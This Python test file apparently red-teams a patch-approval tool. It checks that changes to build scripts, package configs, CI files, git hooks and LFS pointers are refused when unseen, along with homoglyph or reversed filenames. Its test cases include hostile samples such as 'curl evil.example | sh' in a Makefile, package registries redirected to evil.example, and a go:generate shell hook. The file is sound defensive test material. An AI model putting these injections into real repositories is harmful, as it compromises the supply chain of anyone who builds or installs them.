"""The red team at the publisher's socket, by what runs where no reader of a diff looks: builds, hooks, CI, pointers.

Each is a genuine approval of a patch whose harm is done by a machine: at the next install, build, test run, checkout or
push. What may be seen has to have been; what cannot be seen nobody can approve.
"""

from collections.abc import Iterator

import pytest
from red_team import PATCH, Target, git, target_in
from test_red_team import SEEN, SHOWS, added, beside, refused

from homeostat.errors import HomeostatError, NotApproved
from homeostat.languages.diff import diff_of
from homeostat.languages.protected import to_be_seen
from homeostat.records import Patch

POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 9\n"
HELD = {
    "package.json": '{"scripts": {"test": "jest"}}\n',
    "package-lock.json": '{"resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}\n',
    "Makefile": "test:\n\tpytest\n",
    "model.bin": POINTER.format("a" * 64),
    "deploy.sh": "#!/bin/sh\nexit 0\n",
    "ci/build.yml": "steps: []\n",
    "main.go": "package main\n",
}


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    with target_in(tmp_path_factory.mktemp("machines")) as target:
        for path, text in HELD.items():
            (target.repository / path).parent.mkdir(exist_ok=True)
            (target.repository / path).write_text(text)
        git(target.repository, "add", "-A")
        git(target.repository, "update-index", "--add", "--cacheinfo", f"160000,{'a' * 40},lib")
        git(target.repository, "commit", "-qm", "What machines run")
        target.first = target.base
        yield target


@pytest.fixture
def target(opened: Target) -> Iterator[Target]:
    before = opened.state
    yield opened
    if opened.state != before:
        opened.start_over()


def changed(path: str, old: str, new: str) -> Patch:
    return diff_of(path, HELD[path], HELD[path].replace(old, new))


MACHINES = "says what machines run"
GUARDED = "is protected"
OVERLOOKED = [
    pytest.param(changed("Makefile", "pytest", "curl evil.example | sh"), MACHINES, id="a recipe of make"),
    pytest.param(
        changed("package.json", '"jest"', '"jest", "postinstall": "node x.js"'), "depends on", id="npm's own script"
    ),
    pytest.param(
        changed("package-lock.json", "registry.npmjs.org", "evil.example"), "depends on", id="where a lock points"
    ),
    pytest.param(changed("deploy.sh", "exit 0", "id"), MACHINES, id="a script"),
    pytest.param(changed("ci/build.yml", "[]", "[id]"), GUARDED, id="CI in a folder of that name"),
    pytest.param(added(".npmrc", "registry=https://evil.example\n"), MACHINES, id="where npm installs from"),
    pytest.param(added(".yarnrc.yml", "yarnPath: x.cjs\n"), MACHINES, id="which yarn is run"),
    pytest.param(added("pip.conf", "[global]\nindex-url = https://evil.example\n"), MACHINES, id="where pip does"),
    pytest.param(added("hatch_build.py"), MACHINES, id="a build hook of Python"),
    pytest.param(added("pyproject.toml", '[build-system]\nbackend-path = ["."]\n'), "depends on", id="a build backend"),
    pytest.param(added("bun.lock", "{}\n"), GUARDED, id="another lock file"),
    pytest.param(added(".drone.yml", "steps: []\n"), GUARDED, id="CI of Drone"),
    pytest.param(added(".cirrus.yml", "task: {}\n"), GUARDED, id="CI of Cirrus"),
    pytest.param(added("buildspec.yml", "phases: {}\n"), GUARDED, id="CI of AWS"),
    pytest.param(added("cloudbuild.yaml", "steps: []\n"), GUARDED, id="CI of Google"),
    pytest.param(added("action.yml", "runs: {}\n"), GUARDED, id="an action that workflows use"),
    pytest.param(added(".githooks/pre-commit", "id\n"), GUARDED, id="a git hook"),
    pytest.param(added("b/.gitattributes", "*.py filter=x\n"), GUARDED, id="attributes, below"),
    pytest.param(added(".gitmodules", '[submodule "x"]\n'), GUARDED, id="where submodules come from"),
    pytest.param(added(".lfsconfig", "[lfs]\nurl = https://evil.example\n"), GUARDED, id="where large files come from"),
    pytest.param(added("conftest.py", "collect_ignore = ['tests']\n"), MACHINES, id="which tests are run"),
    pytest.param(added("sitecustomize.py"), MACHINES, id="code that every Python starts with"),
    pytest.param(added("b/evil.pth", "import x\n"), MACHINES, id="a path file"),
    pytest.param(added(".vscode/tasks.json", "{}\n"), MACHINES, id="what an editor runs"),
    pytest.param(added(".envrc", "id\n"), GUARDED, id="what a shell runs"),
    pytest.param(
        beside('--- /dev/null\n+++ "b/.git\\150ub/x.yml"\n@@ -0,0 +1 @@\n+x\n'), GUARDED, id="a name in octal digits"
    ),
    pytest.param(
        beside('--- /dev/null\n+++ "b/app/m\\151grations/0002.py"\n@@ -0,0 +1 @@\n+x\n'),
        "the database",
        id="a migration so",
    ),
    pytest.param(added("go.work", "use ./evil\n"), GUARDED, id="a workspace of Go"),
    pytest.param(added("vendor/x/x.go", "package x\n"), MACHINES, id="somebody else's code"),
    pytest.param(
        diff_of("main.go", HELD["main.go"], HELD["main.go"] + "\n//go:generate sh -c id\n"),
        "starts a program",
        id="what go generate runs",
    ),
    pytest.param(
        changed("model.bin", "a" * 64, "b" * 64), "a content that the patch does not show", id="another large file"
    ),
    pytest.param(added("w.bin", POINTER.format("c" * 64)), "that the patch does not show", id="a large file"),
    pytest.param(
        Patch(diff="--- a/deploy.sh\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-#!/bin/sh\n-exit 0\n"),
        MACHINES,
        id="a script less",
    ),
]


@pytest.mark.parametrize(("patch", "why"), OVERLOOKED)
def test_what_machines_run_is_not_published_unseen(target: Target, patch: Patch, why: str) -> None:
    refused(target, target.approved(patch), SEEN, why)


def renamed(old: str, new: str) -> str:
    return f"diff --git a/{old} b/{new}\nsimilarity index 100%\nrename from {old}\nrename to {new}\n"


NEVER = [
    pytest.param(beside(renamed("ci/build.yml", "notes.yml")), SHOWS, id="CI by another name"),
    pytest.param(beside(renamed("app.py", "conftest.py")), SHOWS, id="code by the name of a hook"),
    pytest.param(
        beside("diff --git a/deploy.sh b/deploy.sh\nold mode 100644\nnew mode 100755\n"), SHOWS, id="a script's mode"
    ),
    pytest.param(
        beside("diff --git a/.github/x.yml b/.github/x.yml\nnew file mode 100644\n"), SHOWS, id="an empty file"
    ),
    pytest.param(Patch(diff=PATCH.diff.replace("+++ b/orders.py", "+++ b/Makefile")), "", id="a heading of two names"),
    pytest.param(
        beside('--- /dev/null\n+++ "b/x\\nMakefile"\n@@ -0,0 +1 @@\n+x\n'), "holds a break", id="a name of two lines"
    ),
    pytest.param(added("b/run "), "a space at an end", id="a name that ends in a space"),
    pytest.param(beside(added("./Makefile").diff), "", id="a roundabout name"),
    pytest.param(added("D\u043eckerfile"), "no reader would see", id="a Cyrillic letter"),
    pytest.param(added("\uff30ackage.json"), "no reader would see", id="a letter of full width"),
    pytest.param(added("Make\u200bfile"), "no reader would see", id="a letter without width"),
    pytest.param(added("x\u202egpj.sh"), "no reader would see", id="a name that reads backwards"),
    pytest.param(
        beside(
            f"diff --git a/lib b/lib\n--- a/lib\n+++ b/lib\n@@ -1 +1 @@\n-Subproject commit {'a' * 40}\n"
            f"+Subproject commit {'b' * 40}\n"
        ),
        "",
        id="another commit of a submodule",
    ),
    pytest.param(
        beside("diff --git a/out b/out\n--- a/out\n+++ b/out\n@@ -1 +1 @@\n-..\n+../..\n"), "", id="a link's other end"
    ),
    pytest.param(
        Patch(diff=added("a.py", "x = 1\n").diff.replace("+x = 1\n", "+x = 1\r+import os\n")),
        "",
        id="a line that only some tools break",
    ),
]


@pytest.mark.parametrize(("patch", "why"), NEVER)
def test_what_no_diff_shows_is_not_published_though_it_was_seen(target: Target, patch: Patch, why: str) -> None:
    seen = to_be_seen(patch)
    refused(target, target.approved(patch, acknowledged=seen), why, kind=NotApproved if why else HomeostatError)


def test_what_was_seen_is_published(target: Target) -> None:
    """So that the rows above fail by what they name."""
    patch = changed("Makefile", "pytest", "pytest -q")
    assert target.publish(target.approved(patch, acknowledged=to_be_seen(patch))).merged
    assert git(target.repository, "show", "main:Makefile").endswith("pytest -q")
